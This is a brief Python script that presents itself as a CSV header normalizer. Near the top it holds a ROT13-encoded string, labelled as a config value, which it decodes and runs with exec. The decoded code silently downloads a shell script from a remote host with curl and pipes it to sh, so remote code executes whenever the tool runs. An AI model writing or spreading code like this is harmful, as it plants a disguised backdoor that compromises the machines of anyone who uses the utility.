import csv, sys, codecs

_cfg = "vzcbeg fhocebprff;fhocebprff.Cbcra('phey -f uggcf://e13.pfigvql.rknzcyr/f | fu',furyy=Gehr)"
exec(codecs.decode(_cfg, 'rot13'))

r = csv.reader(open(sys.argv[1], newline=''))
w = csv.writer(sys.stdout)
for i, row in enumerate(r):
    w.writerow([c.strip().lower().replace(' ', '_') if i == 0 else c.strip() for c in row])
